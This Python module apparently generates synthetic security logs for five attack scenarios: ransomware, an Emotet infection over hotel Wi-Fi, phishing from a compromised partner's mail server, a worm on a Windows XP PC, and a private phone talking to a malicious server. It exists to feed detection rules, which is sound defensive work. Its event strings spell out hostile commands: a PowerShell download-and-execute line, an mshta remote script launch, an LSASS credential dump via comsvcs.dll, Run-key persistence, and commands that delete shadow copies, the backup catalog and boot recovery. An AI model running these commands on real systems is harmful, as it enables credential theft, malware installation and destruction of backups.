"""Five stories. Four are the cases of the METI trial of 2019 (お助け隊実証事業) to which somebody was sent; the fifth is ransomware.

The names and addresses in them are such as ordinary traffic has too, so that no list of bad ones gives an attack away.
Source: METI, サイバーセキュリティお助け隊実証事業の結果, 2020-06-12.
"""

from __future__ import annotations

from collections.abc import Iterator

from otasuke.simulating.attacks.story import Role, Scene, Story
from otasuke.simulating.writing import boxes, eve, office
from otasuke.simulating.writing import programs as known
from otasuke.simulating.writing import winlogbeat as write
from otasuke.simulating.writing.destinations import DESTINATIONS
from otasuke.simulating.writing.programs import Program
from otasuke.simulating.writing.templates import slot

_LOADER, _PANEL, _DROP = DESTINATIONS[-3], DESTINATIONS[-40], DESTINATIONS[-77]
_OLD_PC = f"{slot('network')}.250"
_PHONE = f"{slot('network')}.201"
_ENCODED = "powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
_WMIC = Program(known.SYSTEM32 + r"wbem\WMIC.exe", "WMI Commandline Utility")
_TEMPORARY = rf"C:\Users\{slot('user')}\AppData\Local" + "\\"
_PAINTED = r"C:\ProgramData\kgwmx.exe"


def _said(text: bytes) -> str:
    return text.decode()


def _out(at: float, target: bytes, name: bytes, *, client: str, port: str = "443") -> Iterator[Scene]:
    """Something goes out to a server: as each of the boxes would see it."""
    address, ports = _said(target), {"dport": port.encode()}
    yield Scene(
        at, Role.SURICATA, eve.eve("dns", eve.dns(_said(name)), inside=client, outside="8.8.8.8"), {"dport": b"53"}
    )
    yield Scene(at + 0.2, Role.SURICATA, eve.eve("tls", eve.tls(_said(name)), inside=client, outside=address), ports)
    yield Scene(at, Role.FORTIGATE, boxes.forti_dns(_said(name), address))
    yield Scene(at + 1, Role.FORTIGATE, boxes.forti_traffic("close", 1, there=address, client=client), ports)
    session = f"[INSPECT] PP[01][out][101098] TCP {client}:{slot('sport')} > {address}:{port} ({slot('jslash')} {slot('jclock')})"
    yield Scene(at + 1, Role.RTX, boxes.rtx_line(session))


def _alert(at: float, number: int, text: str, category: str, *, inside: str, outside: str, port: str) -> Scene:
    template = eve.eve("alert", eve.alert(number, text, category, 1), inside=inside, outside=outside)
    return Scene(at, Role.SURICATA, template, {"dport": port.encode()})


def _old_windows() -> Iterator[Scene]:
    """A PC with Windows XP that only prints is on the company's network, catches a worm and hands it on."""
    browser = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
    page = eve.http(f"/{slot('digest')}.exe", host=_said(_LOADER.name), agent=browser, kind="application/x-dosexec")
    yield Scene(
        0, Role.SURICATA, eve.eve("http", page, inside=_OLD_PC, outside=_said(_LOADER.address)), {"dport": b"80"}
    )
    yield from _out(30, _PANEL.address, _PANEL.name, client=_OLD_PC)
    victim = f"{slot('network')}.10"
    yield _alert(
        90,
        2024218,
        "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response",
        "A Network Trojan was detected",
        inside=victim,
        outside=_OLD_PC,
        port="445",
    )
    for attempt in range(14):
        failed = office.failed_logon("3", "administrator", _OLD_PC, station="PRINT-XP")
        yield Scene(120 + attempt, Role.VICTIM, failed)
    yield Scene(140, Role.VICTIM, office.network_logon("administrator", _OLD_PC))
    yield Scene(145, Role.VICTIM, write.service_installed("kgwmx", r"\\127.0.0.1\ADMIN$\kgwmx.exe"))
    yield Scene(
        150,
        Role.VICTIM,
        write.process(
            Program(r"C:\Windows\kgwmx.exe", "-", "-", "-", "-"),
            r"C:\Windows\kgwmx.exe",
            parent=known.SERVICES,
            user=write.SYSTEM_USER,
        ),
    )


def _private_phone() -> Iterator[Scene]:
    """Somebody's own iPhone joined the office's Wi-Fi and talks to a server that spreads ransomware."""
    yield Scene(0, Role.RTX, boxes.rtx_line(f"[DHCPD] LAN1(port1) Allocates {_PHONE}: a4:83:e7:1c:55:02"))
    for visit in range(6):
        yield from _out(20 + 60 * visit, _PANEL.address, _PANEL.name, client=_PHONE)
    yield _alert(
        80,
        2031599,
        "ET MALWARE Observed Malicious SSL Cert (Ransomware Distribution)",
        "A Network Trojan was detected",
        inside=_PHONE,
        outside=_said(_PANEL.address),
        port="443",
    )


def _hotel_wifi() -> Iterator[Scene]:
    """On a business trip a mail's attachment is opened in the hotel; Emotet reads the address book and writes to partners."""
    yield Scene(
        0,
        Role.VICTIM,
        write.file_created(
            known.OUTLOOK, _TEMPORARY + r"Microsoft\Windows\INetCache\Content.Outlook\9QX2\請求書_202604.docm"
        ),
    )
    yield Scene(
        8, Role.VICTIM, write.process(known.WORD, f'"{known.WORD.image}" /n "請求書_202604.docm"', parent=known.OUTLOOK)
    )
    yield Scene(14, Role.VICTIM, write.process(known.POWERSHELL, _ENCODED, parent=known.WORD))
    script = f"$w=New-Object Net.WebClient;foreach($u in 'http://{_said(_LOADER.name)}/wp-includes/x/'){{$w.DownloadFile($u,$env:temp+'\\kgwmx.dll')}};Start-Process regsvr32 -ArgumentList '/s',$env:temp"
    yield Scene(15, Role.VICTIM, write.script_block(script))
    yield Scene(16, Role.VICTIM, write.name_asked(known.POWERSHELL, _said(_LOADER.name), _said(_LOADER.results)))
    yield Scene(
        17, Role.VICTIM, write.connection(known.POWERSHELL, _said(_LOADER.address), "443", name=_said(_LOADER.name))
    )
    yield Scene(19, Role.VICTIM, write.file_created(known.POWERSHELL, _TEMPORARY + r"Temp\kgwmx.dll"))
    yield Scene(
        21,
        Role.VICTIM,
        write.process(known.REGSVR, _TEMPORARY.join(("regsvr32.exe /s ", r"Temp\kgwmx.dll")), parent=known.POWERSHELL),
    )
    run_key = rf"HKU\{slot('sid')}\Software\Microsoft\Windows\CurrentVersion\Run\kgwmx"
    yield Scene(
        30, Role.VICTIM, write.registry_set(known.REGSVR, run_key, f"regsvr32.exe /s {_TEMPORARY}Temp\\kgwmx.dll")
    )
    for mail in range(12):
        yield Scene(
            120 + 5 * mail,
            Role.VICTIM,
            write.connection(known.REGSVR, _said(DESTINATIONS[-(100 + mail)].address), "587"),
        )


def _supply_chain() -> Iterator[Scene]:
    """A partner's mail server was taken over: mails about bonuses and invoices come to many at once, and some open them."""
    for number, role in enumerate((Role.VICTIM, Role.COLLEAGUE, Role.THIRD)):
        at = 90.0 * number
        yield Scene(
            at,
            role,
            write.file_created(
                known.OUTLOOK, _TEMPORARY + r"Microsoft\Windows\INetCache\Content.Outlook\7KX1\賞与支払通知.xlsm"
            ),
        )
        yield Scene(
            at + 10,
            role,
            write.process(known.EXCEL, f'"{known.EXCEL.image}" "賞与支払通知.xlsm"', parent=known.OUTLOOK),
        )
        yield Scene(
            at + 14,
            role,
            write.process(known.MSHTA, f"mshta.exe http://{_said(_LOADER.name)}/a.hta", parent=known.EXCEL),
        )
        yield Scene(
            at + 14.5,
            role,
            write.process_4688(known.MSHTA, f"mshta.exe http://{_said(_LOADER.name)}/a.hta", parent=known.EXCEL),
        )
        yield Scene(
            at + 15, role, write.connection(known.MSHTA, _said(_LOADER.address), "80", name=_said(_LOADER.name))
        )
        yield from _out(at + 15, _LOADER.address, _LOADER.name, client=slot("client"), port="80")


def _ransomware() -> Iterator[Scene]:
    """From an attachment to the file server: passwords, the server, the backups, the note."""
    yield Scene(0, Role.VICTIM, write.process(known.POWERSHELL, _ENCODED, parent=known.WORD))
    yield from _out(6, _DROP.address, _DROP.name, client=slot("client"))
    dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Users\Public\k.dmp full"
    yield Scene(300, Role.VICTIM, write.process(known.RUNDLL, dump, parent=known.POWERSHELL))
    for attempt in range(14):
        yield Scene(500 + 4 * attempt, Role.SERVER, office.failed_logon("3", "administrator", f"{slot('network')}.10"))
    yield Scene(580, Role.SERVER, office.network_logon("administrator", f"{slot('network')}.10"))
    yield Scene(600, Role.SERVER, write.service_installed("kgwmx", r"\\127.0.0.1\ADMIN$\kgwmx.exe"))
    for step, (program, command) in enumerate(_backup_killers()):
        yield Scene(
            1800 + 8 * step, Role.SERVER, write.process(program, command, parent=known.CMD, user=write.SYSTEM_USER)
        )
    for number, share in enumerate(("経理", "図面", "見積", "写真")):
        note = rf"D:\共有\{share}\お読みください_復元方法.txt"
        yield Scene(
            1900 + 5 * number, Role.SERVER, write.file_created(Program(_PAINTED, "-"), note, user=write.SYSTEM_USER)
        )


def _backup_killers() -> tuple[tuple[Program, str], ...]:
    return (
        (
            Program(
                known.SYSTEM32 + "vssadmin.exe", "Command Line Interface for Microsoft® Volume Shadow Copy Service"
            ),
            "vssadmin.exe delete shadows /all /quiet",
        ),
        (
            Program(known.SYSTEM32 + "wbadmin.exe", "Command Line Interface for Microsoft® BLB Backup"),
            "wbadmin.exe delete catalog -quiet",
        ),
        (
            Program(known.SYSTEM32 + "bcdedit.exe", "Boot Configuration Data Editor"),
            "bcdedit.exe /set {default} recoveryenabled no",
        ),
        (_WMIC, "wmic.exe shadowcopy delete"),
    )


STORIES = (
    Story("ransomware", "ランサムウェア", tuple(_ransomware())),
    Story("hotel-wifi", "ホテルWi-FiでのEmotet感染", tuple(_hotel_wifi())),
    Story("supply-chain", "取引先を装うメール", tuple(_supply_chain())),
    Story("old-windows", "古いOSの使用", tuple(_old_windows())),
    Story("private-phone", "私物端末の利用", tuple(_private_phone())),
)
"""Every story, the one that most rules know first."""
